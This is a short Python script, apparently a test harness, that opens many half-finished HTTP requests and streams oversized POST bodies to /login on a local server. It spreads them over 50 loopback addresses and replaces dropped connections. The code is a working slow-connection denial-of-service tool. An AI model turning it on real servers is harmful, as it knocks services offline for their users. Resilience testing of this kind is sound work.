"""Holds half-open connections and sends large bodies to `/login`.

`python connection_flood.py PORT CONNECTIONS BODIES` prints a line once all connections are open. It replaces
connections that the server closes, RATE a second, until its stdin ends.
"""

import contextlib
import selectors
import socket
import sys
import time

HALF = b"GET /usage HTTP/1.1\r\nHost: localhost\r\nX-Half: "
BODY = b"POST /login HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
BODY += b"Content-Length: 60000000\r\n\r\n"
PIECE = b"x" * 60_000
RATE = 200


class Flood:
    """All connections, from 50 addresses of this machine."""

    def __init__(self, port: int) -> None:
        self._port, self._selector = port, selectors.DefaultSelector()
        self._selector.register(sys.stdin, selectors.EVENT_READ)
        self._closed: list[tuple[int, bytes]] = []

    def connect(self, number: int, head: bytes) -> None:
        """Connect, and send the beginning of a request."""
        connection = socket.socket()
        connection.bind((f"127.0.0.{2 + number % 50}", 0))
        connection.connect(("127.0.0.1", self._port))
        with contextlib.suppress(OSError):
            connection.sendall(head)
        connection.setblocking(False)
        events = selectors.EVENT_READ | (selectors.EVENT_WRITE if head == BODY else 0)
        self._selector.register(connection, events, (number, head))

    def run(self) -> None:
        """Send, and replace connections, until stdin ends."""
        replace_at = time.monotonic() + 1
        while self._handle_events():
            if time.monotonic() > replace_at:
                replace_at = time.monotonic() + 1
                for number, head in self._closed[:RATE]:
                    self.connect(number, head)
                del self._closed[:RATE]

    def _handle_events(self) -> bool:
        for key, events in self._selector.select(1):
            if key.data is None:
                return False
            with contextlib.suppress(OSError):
                if events & selectors.EVENT_WRITE:
                    key.fileobj.send(PIECE)
                if not events & selectors.EVENT_READ or key.fileobj.recv(65_536):
                    continue
            self._selector.unregister(key.fileobj)
            key.fileobj.close()
            self._closed.append(key.data)
        return True


def main(port: int, connections: int, bodies: int) -> None:
    flood = Flood(port)
    for number in range(connections):
        flood.connect(number, HALF)
    for number in range(bodies):
        flood.connect(number, BODY)
    print("ready", flush=True)
    flood.run()


main(*map(int, sys.argv[1:]))
